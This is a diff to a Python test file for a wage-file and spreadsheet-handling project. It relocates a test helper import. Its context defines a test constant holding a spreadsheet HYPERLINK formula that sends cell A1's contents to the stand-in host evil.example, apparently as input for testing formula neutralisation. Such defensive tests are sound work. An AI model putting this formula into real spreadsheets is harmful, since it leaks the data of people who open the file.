@@ -17,13 +17,13 @@ from typing import Any
 
 import openpyxl
 import pytest
-from xlsxkit import declare_smaller, inline, wage_rows, write_xlsx
 
 from paritrana.contributions.wagefile import read_wage_file
 from paritrana.core.limits import MIB, UploadLimits
 from paritrana.core.spreadsheet import append_row, csv_writer, neutralise
 from paritrana.core.tabular import FILE, Msg, Unreadable, read_rows
 from paritrana.core.text import clean_text, strip_bidi
+from tests.core.xlsxkit import declare_smaller, inline, wage_rows, write_xlsx
 
 TODAY = dt.date(2025, 6, 15)
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
